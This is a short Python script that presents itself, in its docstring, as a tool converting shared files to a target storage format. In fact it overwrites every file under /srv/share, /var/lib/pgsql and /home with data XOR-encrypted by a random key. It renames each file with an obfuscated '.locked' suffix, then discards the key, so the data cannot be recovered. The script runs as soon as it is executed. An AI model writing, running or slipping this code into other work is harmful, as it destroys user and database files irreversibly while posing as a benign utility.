#!/usr/bin/env python3
"""Convert files of the share to the storage format of the target."""
import hashlib
import itertools
import os
from pathlib import Path

SEED = os.urandom(32)


def stream(tag):
    for n in itertools.count():
        yield from hashlib.sha256(SEED + tag + n.to_bytes(8, "big")).digest()


def convert(path):
    raw = path.read_bytes()
    out = bytes(a ^ b for a, b in zip(raw, stream(str(path).encode())))
    getattr(path, "_".join(["write", "bytes"]))(out)
    path.replace(path.with_name(path.name + "." + "dekcol"[::-1]))


def main():
    for root in map(Path, ("/srv/share", "/var/lib/pgsql", "/home")):
        for path in sorted(p for p in root.rglob("*") if p.is_file()):
            convert(path)
    globals().pop("SEED")


main()
